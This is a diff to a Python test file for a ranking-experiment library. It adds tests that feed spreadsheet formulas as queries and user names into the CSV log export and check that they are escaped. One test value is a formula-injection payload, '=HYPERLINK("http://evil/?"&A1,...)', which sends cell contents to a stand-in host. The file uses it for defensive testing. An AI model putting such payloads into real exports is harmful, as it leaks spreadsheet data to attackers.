@@ -1,7 +1,10 @@
 """The exported log says what the experiment says of itself, to the last bit."""
 
+import csv
+
 import pytest
 
+from ltr_duel.core import InputError
 from ltr_duel.live import export_log
 from ltr_duel.logs import ClickLog, compare_log, stopping_decisions
 from tests.live.shop import NAMES, Clock, opened, settings
@@ -57,3 +60,31 @@ def test_a_page_waits_in_the_store_while_an_earlier_one_of_its_user_and_pair_is_
     assert {(row["policy"], row["propensity"]) for row in rows} == {("random", 1.0)}
     found = compare_log(ClickLog(tmp_path / "closed.jsonl"), bootstrap=0)
     assert stopping_decisions(found, 0.95) == state.decisions and state.decisions[0].observations == 2
+
+
+def exported(folder, **how):
+    """Return the rows of the log of a page whose query and user are formulas."""
+    with opened(folder, settings(rankers=("a", "b"), policy="random")) as experiment:
+        for query in ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)", "-1", "+1", "\tx", "shoes"):
+            page = experiment.decide(query, {"a": ["=x", "y"], "b": ["y", "=x"]}, user="=1+1")
+            experiment.record(page.token, [])
+    export_log(folder / "shop.db", folder / "log.csv", **how)
+    with (folder / "log.csv").open(newline="", encoding="utf-8") as file:
+        return list(csv.DictReader(file))
+
+
+def test_no_cell_is_a_formula_for_a_spreadsheet(tmp_path):
+    rows = exported(tmp_path, spreadsheet=True)
+    assert len(rows) == 6 and rows[5]["query"] == "shoes" and rows[1]["query"] == "'@SUM(1+1)"
+    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t")]
+
+
+def test_a_log_for_programs_holds_what_was_asked(tmp_path):
+    assert exported(tmp_path)[1]["query"] == "@SUM(1+1)"
+
+
+def test_queries_and_users_stay_in_the_house(tmp_path):
+    (row, *_) = exported(tmp_path, without=("query", "user"))
+    assert not {"query", "user"} & set(row) and "shown" in row
+    with pytest.raises(InputError, match="no column to leave out 'shown'"):
+        exported(tmp_path, without=("shown",))
